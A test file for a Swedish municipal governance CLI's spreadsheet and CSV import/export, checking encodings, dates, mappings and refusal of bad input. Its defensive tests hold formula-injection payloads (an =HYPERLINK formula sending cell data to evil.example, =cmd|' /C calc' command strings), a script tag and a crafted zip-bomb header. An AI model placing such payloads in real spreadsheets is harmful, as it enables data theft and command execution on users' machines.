// styr import and styr export, in-process (run(argv, io)) against copies of the
// example municipality: a realistic systems list and contracts list in every
// form a municipality has them (a workbook with real dates and a merged
// two-row header, `;`-separated CSV in Windows-1252, CSV in UTF-8 with a byte
// order mark, the hand-written Swedish CSV in test/fixtures/tabular), every
// kind round-tripped through a workbook, and the bad input the issue lists.
import { cpSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterEach, describe, expect, it } from 'vitest';
import type { CliIo } from '../../src/cli/io.js';
import { run } from '../../src/cli/main.js';
import { ROOT, tempDir } from '../helpers/cli.js';
import { readTree } from '../helpers/repo.js';

const TODAY = '2026-12-01';
/** Tests that run a dozen commands over the example repository: room for a loaded machine. */
const HEAVY = 240_000;
const FIXTURES = join(ROOT, 'test', 'fixtures', 'tabular');
const cleanups: (() => void)[] = [];
afterEach(() => {
  while (cleanups.length) cleanups.pop()!();
});

interface Result {
  code: number;
  out: string;
  err: string;
}

/** A copy of the example municipality in a temporary folder; `dir` holds data/ and the files a test writes. */
function workspace(): { dir: string; data: string } {
  const tmp = tempDir('styr-import-');
  cleanups.push(tmp.cleanup);
  const data = join(tmp.dir, 'data');
  cpSync(join(ROOT, 'data'), data, { recursive: true });
  return { dir: tmp.dir, data };
}

async function styr(dir: string, args: string[]): Promise<Result> {
  let out = '';
  let err = '';
  const io: CliIo = { stdout: { write: (t: string) => (out += t) }, stderr: { write: (t: string) => (err += t) }, env: { NO_COLOR: '1' }, cwd: dir };
  const code = await run([...args, '--data', join(dir, 'data'), '--today', TODAY], io);
  return { code, out, err };
}

/** The plans for 2027 name the systems about to be imported (as a plan written before the register is): then the repository is valid after the import. */
function planTheNewSystems(data: string): void {
  const add = (plan: string, system: string) => {
    const path = join(data, 'plans', plan);
    writeFileSync(path, readFileSync(path, 'utf8').replace(/^systems:\n/m, `systems:\n  - ${system}\n`));
  };
  add('fastighet-och-fordon-2027.yaml', 'hyresgastportalen');
  add('skolplattform-2027.yaml', 'skolskjutsplaneraren');
  add('ekonomi-hr-2027.yaml', 'gamla-lonesystemet');
}

async function expectValid(dir: string): Promise<void> {
  const r = await styr(dir, ['validate', '--quiet', '--format', 'json']);
  const report = JSON.parse(r.out) as { summary: { errors: number } };
  expect(report.summary.errors).toBe(0);
  expect(r.code).toBe(0);
}

function yamlOf(data: string, path: string): string {
  return readFileSync(join(data, path), 'utf8');
}

// ---------- the realistic lists, in every form ----------

const SYSTEM_HEADERS = [
  'Systemnamn',
  'Verksamhetsområde',
  'Förvaltning',
  'Förvaltningsobjekt',
  'Systemägare',
  'Systemförvaltare',
  'Leverantör',
  'Status',
  'Antal användare',
  'Personuppgifter',
  'Konfidentialitet',
  'Riktighet',
  'Tillgänglighet',
  'Klassad',
];
type Value = string | number | Date | boolean | null;
/** The list as the municipality keeps it: names instead of ids, labels, numbers as text, dates in every form. */
const SYSTEM_ROWS: Value[][] = [
  [
    'Hyresgästportalen',
    'Fastighet',
    'Tekniska förvaltningen',
    'fastighet-och-fordon',
    'Åsa Fastighetsdotter',
    'Roger Verkstadsson',
    'Fastighetsdata Norr AB',
    'I drift',
    '1 250',
    'Ja',
    'Måttlig',
    'Måttlig',
    'måttlig',
    '2025-03-14',
  ],
  [
    'Skolskjutsplaneraren',
    'Skola',
    'Barn- och utbildningsförvaltningen',
    'skolplattform',
    'Hanna Provsjö',
    'Erik Utkastdahl',
    'Resvägen AB',
    'Införande',
    85,
    'ja',
    'betydande',
    'måttlig',
    'Måttlig',
    '1/12/2025',
  ],
  [
    'Föreningsregistret',
    'Kultur och fritid',
    'Kultur- och fritidsförvaltningen',
    null,
    null,
    null,
    'Klubbdata i Sverige AB',
    'planerat',
    null,
    'Nej',
    'ingen',
    'Måttlig',
    'ingen',
    45992,
  ],
  [
    'Gamla lönesystemet',
    'Ekonomi och HR',
    'Kommunstyrelseförvaltningen',
    'ekonomi-hr',
    'Jessica Personalsson',
    'Kristoffer Konterberg',
    'Lönegruppen AB',
    'Avvecklas',
    '12',
    'ja',
    'betydande',
    'betydande',
    'måttlig',
    '3.2.2024',
  ],
];
const SYSTEM_MAP = join(FIXTURES, 'systemforteckning.map.yaml');

const CONTRACT_HEADERS = [
  'Avtal',
  'Avtalsnummer',
  'Leverantör',
  'Startdatum',
  'Avtalstid (mån)',
  'Förlängning',
  'Förlängningsperiod',
  'Uppsägningstid',
  'Årskostnad',
  'Ansvarig enhet',
  'Avtalsägare',
  'System',
  'PUB-avtal',
];
const CONTRACT_ROWS: Value[][] = [
  [
    'Hyresgästportal, licens och drift',
    'LK-IT-2025-014',
    'Fastighetsdata Norr AB',
    '2025-04-01',
    36,
    'automatisk',
    12,
    3,
    '184 500 kr',
    'IT-enheten',
    'Felix Avtalsson',
    'hyresgastportalen',
    'ja',
  ],
  [
    'Skolskjuts, planeringstjänst',
    'LK-BU-2025-031',
    'Resvägen AB',
    '1/9/2025',
    24,
    'ingen',
    null,
    3,
    96000,
    'Barn- och utbildningsförvaltningen',
    null,
    'skolskjutsplaneraren',
    'Ja',
  ],
  [
    'Föreningsregister; molntjänst',
    'LK-KF-2026-002',
    'Klubbdata i Sverige AB',
    45748,
    48,
    'option',
    12,
    6,
    '42 000',
    'Kultur- och fritidsförvaltningen',
    null,
    null,
    'nej',
  ],
];
const CONTRACT_MAP = join(FIXTURES, 'avtalslista.map.yaml');

function utc(iso: string): Date {
  const [y, m, d] = iso.split('-').map(Number) as [number, number, number];
  return new Date(Date.UTC(y, m - 1, d));
}

/** A workbook as people make them: a title line, a two-row header with a merged group cell, real dates, numbers as text, a leading apostrophe, trailing empty rows. */
async function systemsWorkbook(path: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Systemförteckning');
  ws.addRow(['Systemförteckning Lövsala kommun']);
  const group = SYSTEM_HEADERS.map((h, i) => (i >= 10 && i <= 12 ? 'Informationsklassning' : h));
  ws.addRow(group);
  ws.addRow(SYSTEM_HEADERS.map((h, i) => (i >= 10 && i <= 12 ? h : null)));
  ws.mergeCells(2, 11, 2, 13);
  for (let c = 1; c <= SYSTEM_HEADERS.length; c++) if (c < 11 || c > 13) ws.mergeCells(2, c, 3, c);
  for (const row of SYSTEM_ROWS) {
    ws.addRow(row.map((v, i) => (i === 13 && typeof v === 'string' && /^\d{4}-/.test(v) ? utc(v) : i === 6 && v === 'Resvägen AB' ? "'Resvägen AB" : v)));
  }
  ws.addRow([]);
  ws.addRow([null, null, '']);
  await wb.xlsx.writeFile(path);
}

async function contractsWorkbook(path: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Avtal');
  ws.addRow(CONTRACT_HEADERS);
  for (const row of CONTRACT_ROWS) ws.addRow(row.map((v, i) => (i === 3 && typeof v === 'string' && /^\d{4}-/.test(v) ? utc(v) : v)));
  await wb.xlsx.writeFile(path);
}

function csvOf(headers: string[], rows: Value[][]): string {
  const cell = (v: Value) => {
    const text = v === null ? '' : String(v);
    return /[;"\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };
  return [headers, ...rows].map((r) => r.map(cell).join(';')).join('\r\n') + '\r\n;;;\r\n';
}

type Form = 'xlsx' | 'csv-1252' | 'csv-utf8-bom' | 'fixture';

async function listsIn(form: Form, dir: string): Promise<{ systems: string; contracts: string }> {
  if (form === 'fixture') return { systems: join(FIXTURES, 'systemforteckning.csv'), contracts: join(FIXTURES, 'avtalslista.csv') };
  if (form === 'xlsx') {
    const systems = join(dir, 'system.xlsx');
    const contracts = join(dir, 'avtal.xlsx');
    await systemsWorkbook(systems);
    await contractsWorkbook(contracts);
    return { systems, contracts };
  }
  const systems = join(dir, 'system.csv');
  const contracts = join(dir, 'avtal.csv');
  const encode = (text: string) => (form === 'csv-1252' ? iconv.encode(text, 'win1252') : Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]));
  writeFileSync(systems, encode(csvOf(SYSTEM_HEADERS, SYSTEM_ROWS)));
  writeFileSync(contracts, encode(csvOf(CONTRACT_HEADERS, CONTRACT_ROWS)));
  return { systems, contracts };
}

describe('styr import: a systems list and a contracts list', () => {
  for (const form of ['xlsx', 'csv-1252', 'csv-utf8-bom', 'fixture'] as const) {
    it(
      `imports both lists from ${form} and the repository validates with zero errors`,
      async () => {
        const { dir, data } = workspace();
        planTheNewSystems(data);
        const files = await listsIn(form, dir);
        const systems = await styr(dir, ['import', files.systems, '--kind', 'system', '--map', SYSTEM_MAP]);
        expect(systems.err).not.toMatch(/rad \d+/);
        expect(systems.out).toContain('system: 4 nya, 0 ändrade, 0 oförändrade');
        expect(systems.code).toBe(0);
        const contracts = await styr(dir, ['import', files.contracts, '--kind', 'contract', '--map', CONTRACT_MAP]);
        expect(contracts.out).toContain('avtal: 3 nya, 0 ändrade, 0 oförändrade');
        expect(contracts.code).toBe(0);
        await expectValid(dir);

        const portal = yamlOf(data, 'systems/hyresgastportalen.yaml');
        expect(portal).toContain('unit: tekniska-forvaltningen'); // the department by its name
        expect(portal).toContain('owner: asa-fastighetsdotter'); // the person by name
        expect(portal).toContain('lifecycle: production'); // "I drift", the Swedish label
        expect(portal).toContain('users: 1250'); // "1 250", a number stored as text
        expect(portal).toContain('assessed: 2025-03-14');
        expect(yamlOf(data, 'systems/skolskjutsplaneraren.yaml')).toContain('assessed: 2025-12-01'); // 1/12/2025 is the first of December
        expect(yamlOf(data, 'systems/foreningsregistret.yaml')).toContain('assessed: 2025-12-01 }'); // Excel serial 45992
        expect(yamlOf(data, 'systems/gamla-lonesystemet.yaml')).toContain('lifecycle: phase-out'); // the mapping's translation
        expect(yamlOf(data, 'systems/gamla-lonesystemet.yaml')).toContain('assessed: 2024-02-03'); // 3.2.2024, day first
        const portalContract = yamlOf(data, 'contracts/hyresgastportal-licens-och-drift.yaml');
        expect(portalContract).toContain('yearlyCost: 184500');
        expect(portalContract).toContain('renewal: { type: automatic, periodMonths: 12 }');
        expect(portalContract).toContain('owner: felix-avtalsson');
        expect(yamlOf(data, 'contracts/skolskjuts-planeringstjanst.yaml')).toContain('start: 2025-09-01');
        expect(yamlOf(data, 'contracts/foreningsregister-molntjanst.yaml')).toContain('start: 2025-04-01'); // serial 45748
      },
      HEAVY,
    );
  }

  it(
    'the same list gives the same records from a workbook and from CSV',
    async () => {
      const a = workspace();
      const b = workspace();
      planTheNewSystems(a.data);
      planTheNewSystems(b.data);
      const fromXlsx = await listsIn('xlsx', a.dir);
      const fromCsv = await listsIn('csv-1252', b.dir);
      expect((await styr(a.dir, ['import', fromXlsx.systems, '--kind', 'system', '--map', SYSTEM_MAP])).code).toBe(0);
      expect((await styr(b.dir, ['import', fromCsv.systems, '--kind', 'system', '--map', SYSTEM_MAP])).code).toBe(0);
      for (const id of ['hyresgastportalen', 'skolskjutsplaneraren', 'foreningsregistret', 'gamla-lonesystemet']) {
        expect(yamlOf(a.data, `systems/${id}.yaml`)).toBe(yamlOf(b.data, `systems/${id}.yaml`));
      }
    },
    HEAVY,
  );

  it('reports every invalid row with sheet, row, column and the schema message, and writes nothing', async () => {
    const { dir, data } = workspace();
    planTheNewSystems(data);
    const rows = SYSTEM_ROWS.map((r) => [...r]);
    rows[1]![7] = 'Snart klart'; // not a lifecycle
    rows[2]![13] = '31/2/2026'; // no such day
    rows[3]![0] = null; // no name: no id
    const file = join(dir, 'system.csv');
    writeFileSync(file, iconv.encode(csvOf(SYSTEM_HEADERS, rows), 'win1252'));
    const before = readTree(data);
    const r = await styr(dir, ['import', file, '--kind', 'system', '--map', SYSTEM_MAP]);
    expect(r.code).toBe(1);
    expect(r.err).toContain('system rad 3, kolumn H (Status): ”Snart klart” är inget av de tillåtna värdena (planned, introduction, production, phase-out, retired)');
    expect(r.err).toContain('system rad 4, kolumn N (Klassad): ”31/2/2026” är inget giltigt datum');
    expect(r.err).toContain('system rad 5, kolumn A (Systemnamn): namnet saknas');
    expect(r.err).toContain('inget skrevs');
    expect(readTree(data)).toEqual(before);
  });

  it('reports a reference the repository does not have in the language asked for, at its row and column', async () => {
    const { dir, data } = workspace();
    planTheNewSystems(data);
    const rows = SYSTEM_ROWS.map((r) => [...r]);
    rows[0]![4] = 'Ingen Sådan';
    const file = join(dir, 'system.csv');
    writeFileSync(file, iconv.encode(csvOf(SYSTEM_HEADERS, rows), 'win1252'));
    const r = await styr(dir, ['import', file, '--kind', 'system', '--map', SYSTEM_MAP, '--lang', 'en']);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/system row 2, column E \(Systemägare\): .*Ingen Sådan/);
    expect(r.err).toContain('nothing was written');
  });

  it('--skip-invalid writes the valid rows and lists the rest', async () => {
    const { dir, data } = workspace();
    planTheNewSystems(data);
    const rows = SYSTEM_ROWS.map((r) => [...r]);
    rows[1]![8] = 'många';
    const file = join(dir, 'system.csv');
    writeFileSync(file, iconv.encode(csvOf(SYSTEM_HEADERS, rows), 'win1252'));
    const r = await styr(dir, ['import', file, '--kind', 'system', '--map', SYSTEM_MAP, '--skip-invalid']);
    expect(r.err).toContain('system rad 3, kolumn I (Antal användare): ”många” är inget tal');
    expect(r.err).toContain('1 rad hoppades över');
    expect(r.out).toContain('system: 3 nya');
    expect(readTree(data)['systems/skolskjutsplaneraren.yaml']).toBeUndefined();
    expect(readTree(data)['systems/hyresgastportalen.yaml']).toBeDefined();
    expect(r.code).toBe(1);
  });

  it('reads UTF-16 text with tabs (Excel’s "Unicode text") and a sep= line', async () => {
    const { dir, data } = workspace();
    const utf16 = join(dir, 'unicode.txt');
    writeFileSync(
      utf16,
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Namn\tVerksamhetsområde\tLivscykel\r\nÅrsredovisningen\tEkonomi\tplanerat\r\n', 'utf16le')]),
    );
    const r = await styr(dir, ['import', utf16, '--kind', 'system']);
    expect(r.err).toContain('läste CSV-filen som UTF-16 med avgränsaren tab');
    expect(r.code).toBe(0);
    expect(yamlOf(data, 'systems/arsredovisningen.yaml')).toContain('name: Årsredovisningen');
    const sep = join(dir, 'sep.csv');
    writeFileSync(sep, 'sep=|\r\nNamn|Verksamhetsområde|Livscykel\r\nKassaregistret|Ekonomi, HR|planerat\r\n');
    const s = await styr(dir, ['import', sep, '--kind', 'system']);
    expect(s.code).toBe(0);
    expect(yamlOf(data, 'systems/kassaregistret.yaml')).toContain('businessArea: Ekonomi, HR');
  });

  it('reports two names that make the same id', async () => {
    const { dir } = workspace();
    const file = join(dir, 'system.csv');
    writeFileSync(file, 'Namn;Verksamhetsområde;Livscykel\r\nE-arkiv Öst;Arkiv;planerat\r\ne-arkiv öst;Arkiv;planerat\r\n');
    const r = await styr(dir, ['import', file, '--kind', 'system']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('system rad 3, kolumn A (Namn): namnet ger samma id (e-arkiv-ost) som raden 2');
  });

  it('--map-template lists every field of the kind with its Swedish and English title', async () => {
    const { dir } = workspace();
    const r = await styr(dir, ['import', '--kind', 'system', '--map-template']);
    expect(r.code).toBe(0);
    expect(r.out).toContain('  Livscykel: lifecycle   # Livscykel / Lifecycle (krävs)');
    expect(r.out).toContain(
      '  "Informationsklassning: Tillgänglighet": classification.availability   # Informationsklassning: Tillgänglighet / Information classification: Availability',
    );
    expect(r.out).toContain('    i drift: production');
    const schema = JSON.parse(readFileSync(join(ROOT, 'schemas', 'system.schema.json'), 'utf8')) as { properties: object };
    for (const field of Object.keys(schema.properties).filter((f) => f !== 'classification')) expect(r.out).toMatch(new RegExp(`: ${field}   #`));
  });
});

// ---------- export and the round trip ----------

describe('styr export and the round trip', () => {
  it(
    'round-trips every kind through a workbook with no change',
    async () => {
      const { dir, data } = workspace();
      const before = readTree(data);
      const out = join(dir, 'alla.xlsx');
      const e = await styr(dir, ['export', '--out', out]);
      expect(e.code).toBe(0);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(out);
      expect(wb.worksheets.map((w) => w.name)).toEqual([
        'Enheter',
        'Personer',
        'Roller',
        'HUKI-matriser',
        'System',
        'Tjänster',
        'Förvaltningsobjekt',
        'Förvaltningsplaner',
        'Beställningar',
        'Beslut',
        'Avtal',
        'Inriktning och taktisk plan',
        'Mognadsbedömningar',
      ]);
      for (const kind of ['unit', 'person', 'role', 'raci', 'system', 'service', 'object', 'plan', 'order', 'decision', 'contract', 'direction', 'maturity']) {
        const r = await styr(dir, ['import', out, '--kind', kind]);
        expect(r.err).toBe('');
        expect(r.out).toMatch(/: 0 nya, 0 ändrade, \d+ oförändrade/);
        expect(r.code).toBe(0);
      }
      expect(readTree(data)).toEqual(before);
    },
    HEAVY,
  );

  it('writes Swedish headers, enum labels and real dates in the workbook', async () => {
    const { dir } = workspace();
    const out = join(dir, 'system.xlsx');
    await styr(dir, ['export', '--kind', 'system', '--out', out]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.getWorksheet('System')!;
    const headers = ws.getRow(1).values as unknown[];
    expect(headers).toContain('Livscykel');
    expect(headers).toContain('Informationsklassning: Bedömd');
    const row = ws.getRows(2, ws.rowCount - 1)!.find((r) => r.getCell(1).value === 'ekonomisystem')!;
    expect(row.getCell(headers.indexOf('Livscykel')).value).toBe('i drift');
    expect(row.getCell(headers.indexOf('Informationsklassning: Bedömd')).value).toEqual(utc('2025-10-09'));
    expect(row.getCell(headers.indexOf('Antal användare')).value).toBe(310);
  });

  it('a changed cell changes only that field, comments kept', async () => {
    const { dir, data } = workspace();
    const out = join(dir, 'avtal.xlsx');
    await styr(dir, ['export', '--kind', 'contract', '--out', out]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.worksheets[0]!;
    const headers = ws.getRow(1).values as unknown[];
    ws.eachRow((row) => {
      if (row.getCell(1).value === 'utskrift-2020') row.getCell(headers.indexOf('Årskostnad')).value = 655000;
    });
    await wb.xlsx.writeFile(out);
    const original = yamlOf(data, 'contracts/utskrift-2020.yaml');
    const dry = await styr(dir, ['import', out, '--kind', 'contract', '--dry-run']);
    expect(dry.out.replace(/[\u00a0\u202f]/g, ' ')).toContain('Avtal utskrift-2020: yearlyCost 640 000 → 655 000');
    expect(yamlOf(data, 'contracts/utskrift-2020.yaml')).toBe(original);
    const r = await styr(dir, ['import', out, '--kind', 'contract']);
    expect(r.out).toContain('avtal: 0 nya, 1 ändrade, 22 oförändrade');
    expect(yamlOf(data, 'contracts/utskrift-2020.yaml')).toBe(original.replace('yearlyCost: 640000', 'yearlyCost: 655000'));
    expect(original).toContain('# Förlängs automatiskt');
  });

  it(
    'a CSV export round-trips too, with ; and UTF-8 with a byte order mark',
    async () => {
      const { dir, data } = workspace();
      const before = readTree(data);
      const out = join(dir, 'csv');
      expect((await styr(dir, ['export', '--format', 'csv', '--out', out])).code).toBe(0);
      const text = readFileSync(join(out, 'system.csv'));
      expect([...text.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(text.toString('utf8')).toMatch(/^\ufeffId;Namn;Beskrivning;/);
      for (const kind of ['system', 'contract', 'order', 'plan']) {
        const r = await styr(dir, ['import', join(out, `${kind}.csv`), '--kind', kind]);
        expect(r.out).toMatch(/: 0 nya, 0 ändrade/);
      }
      expect(readTree(data)).toEqual(before);
    },
    HEAVY,
  );

  it('neutralises values that would start a formula, and reads them back unchanged', async () => {
    const { dir, data } = workspace();
    const path = join(data, 'systems', 'gis.yaml');
    const payload = `=HYPERLINK("http://evil.example/?"&A1,"Klicka")`;
    writeFileSync(
      path,
      readFileSync(path, 'utf8')
        .replace(/^supplier: .*$/m, `supplier: '${payload.replace(/'/g, "''")}'`)
        .replace(/^product: .*$/m, "product: '-2+3+cmd|'' /C calc''!A0'"),
    );
    const before = readTree(data);
    const csv = join(dir, 'system.csv');
    await styr(dir, ['export', '--kind', 'system', '--out', csv]);
    const text = readFileSync(csv, 'utf8');
    expect(text).toContain(`'=HYPERLINK(`);
    expect(text).toContain(`'-2+3+cmd|`);
    expect(text).not.toMatch(/[;\n]"?=HYPERLINK/);
    const xlsx = join(dir, 'system.xlsx');
    await styr(dir, ['export', '--kind', 'system', '--out', xlsx]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const cells: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
    expect(cells).toContain(`'${payload}`);
    expect(cells.some((v) => typeof v === 'string' && /^[=+\-@]/.test(v))).toBe(false);
    for (const file of [csv, xlsx]) expect((await styr(dir, ['import', file, '--kind', 'system'])).out).toContain('0 nya, 0 ändrade');
    expect(readTree(data)).toEqual(before);
  });

  it('writes the same bytes for the same records (the zip entries are dated today)', async () => {
    const { dir } = workspace();
    const a = join(dir, 'a.xlsx');
    const b = join(dir, 'b.xlsx');
    await styr(dir, ['export', '--kind', 'role', '--out', a]);
    await new Promise((done) => setTimeout(done, 2100));
    await styr(dir, ['export', '--kind', 'role', '--out', b]);
    expect(readFileSync(a).equals(readFileSync(b))).toBe(true);
  });

  it('never writes through a symbolic link', async () => {
    const { dir } = workspace();
    const target = join(dir, 'target.txt');
    writeFileSync(target, 'keep');
    symlinkSync(target, join(dir, 'link.xlsx'));
    const r = await styr(dir, ['export', '--kind', 'system', '--out', join(dir, 'link.xlsx')]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('är ingen vanlig fil');
    expect(readFileSync(target, 'utf8')).toBe('keep');
  });

  it('says why it cannot write, without a stack trace', async () => {
    const { dir } = workspace();
    writeFileSync(join(dir, 'fil.txt'), 'a file, not a folder');
    const r = await styr(dir, ['export', '--kind', 'system', '--out', join(dir, 'fil.txt', 'system.xlsx')]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^styr: kan inte skriva .*system\.xlsx \(ENOTDIR\); inget skrevs\n$/);
  });
});

// ---------- bad input ----------

describe('styr import: bad input is refused with a clear diagnostic and nothing written', () => {
  async function refused(setup: (dir: string) => Promise<string> | string, expected: RegExp, code = 2, args: string[] = []): Promise<void> {
    const { dir, data } = workspace();
    const before = readTree(data);
    const file = await setup(dir);
    const r = await styr(dir, ['import', file, '--kind', 'system', ...args]);
    expect(r.err).toMatch(expected);
    expect(r.err).not.toMatch(/internal error|at .*\.js:\d+/);
    expect(r.code).toBe(code);
    expect(readTree(data)).toEqual(before);
  }

  it('a file that is not a workbook', async () => {
    await refused((dir) => {
      writeFileSync(join(dir, 'bild.xlsx'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]));
      return join(dir, 'bild.xlsx');
    }, /bild.xlsx: filen är ingen arbetsbok som går att läsa/);
    await refused((dir) => {
      writeFileSync(join(dir, 'trasig.xlsx'), Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]));
      return join(dir, 'trasig.xlsx');
    }, /trasig.xlsx: filen är ingen arbetsbok som går att läsa/);
    await refused((dir) => {
      writeFileSync(join(dir, 'data.csv'), Buffer.from([1, 2, 0, 4, 5]));
      return join(dir, 'data.csv');
    }, /varken en arbetsbok \(.xlsx\) eller en textfil/);
  });

  it('a workbook that would unpack to more than 200 MB (a zip bomb)', async () => {
    await refused((dir) => {
      // One entry whose central directory record declares 300 MB uncompressed.
      const name = Buffer.from('xl/worksheets/sheet1.xml');
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      const central = Buffer.alloc(46);
      central.writeUInt32LE(0x02014b50, 0);
      central.writeUInt32LE(300 * 1024 * 1024, 24);
      central.writeUInt16LE(name.length, 28);
      central.writeUInt32LE(0, 42);
      const end = Buffer.alloc(22);
      end.writeUInt32LE(0x06054b50, 0);
      end.writeUInt16LE(1, 8);
      end.writeUInt16LE(1, 10);
      end.writeUInt32LE(central.length + name.length, 12);
      end.writeUInt32LE(local.length + name.length, 16);
      writeFileSync(join(dir, 'bomb.xlsx'), Buffer.concat([local, name, central, name, end]));
      return join(dir, 'bomb.xlsx');
    }, /bomb.xlsx blir större än 200 MB uppackad/);
  });

  it('an encrypted workbook', async () => {
    await refused((dir) => {
      // A password-protected .xlsx is an OLE compound file with an EncryptionInfo stream.
      const header = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
      writeFileSync(join(dir, 'hemlig.xlsx'), Buffer.concat([header, Buffer.alloc(504), Buffer.from('EncryptionInfo', 'utf16le'), Buffer.alloc(512)]));
      return join(dir, 'hemlig.xlsx');
    }, /hemlig.xlsx är en lösenordsskyddad \(krypterad\) arbetsbok/);
  });

  it(`a sheet with 100,000 rows (the limit is 10,000)`, async () => {
    await refused((dir) => {
      const rows = ['Namn;Verksamhetsområde;Livscykel'];
      for (let i = 0; i < 100_000; i++) rows.push(`System ${i};Skola;planerat`);
      writeFileSync(join(dir, 'stor.csv'), rows.join('\n'));
      return join(dir, 'stor.csv');
    }, /har 100\s000 rader; styr importerar högst 10\s000 rader/);
  });

  it('a formula cell', async () => {
    await refused(
      async (dir) => {
        const wb = new ExcelJS.Workbook();
        const ws = wb.addWorksheet('System');
        ws.addRow(['Namn', 'Verksamhetsområde', 'Livscykel', 'Antal användare']);
        ws.addRow(['Formelsystemet', 'Skola', 'planerat', { formula: 'SUM(1,2)', result: 3 }]);
        await wb.xlsx.writeFile(join(dir, 'formel.xlsx'));
        return join(dir, 'formel.xlsx');
      },
      /System rad 2, kolumn D \(Antal användare\): cellen innehåller en formel \(=SUM\(1,2\)\)/,
      1,
    );
  });

  it('HTML, =HYPERLINK(…) and =cmd|… payloads in cells', async () => {
    await refused(
      (dir) => {
        const csv = [
          'Namn;Verksamhetsområde;Livscykel;Beskrivning',
          'Ett;Skola;planerat;<script>alert(1)</script>',
          'Två;Skola;planerat;"=HYPERLINK(""http://evil.example"",""klicka"")"',
          `Tre;Skola;planerat;=cmd|' /C calc'!A0`,
          `Fyra;Skola;planerat;@SUM(1+1)*cmd|' /C calc'!A0`,
        ].join('\r\n');
        writeFileSync(join(dir, 'farlig.csv'), csv);
        return join(dir, 'farlig.csv');
      },
      /farlig rad 2, kolumn D \(Beskrivning\): ”<script>alert\(1\)<\/script>” innehåller HTML[\s\S]*farlig rad 3, kolumn D \(Beskrivning\): ”=HYPERLINK[\s\S]*skulle köras som en formel[\s\S]*farlig rad 4[\s\S]*farlig rad 5/,
      1,
    );
  });

  it('a mapping that names a field the kind does not have', async () => {
    const { dir } = workspace();
    writeFileSync(join(dir, 'map.yaml'), 'columns:\n  Namn: namn\n');
    writeFileSync(join(dir, 'a.csv'), 'Namn;Verksamhetsområde\r\nX;Y\r\n');
    const r = await styr(dir, ['import', join(dir, 'a.csv'), '--kind', 'system', '--map', join(dir, 'map.yaml')]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('okänt fält ”namn” vid ”Namn”');
  });
});
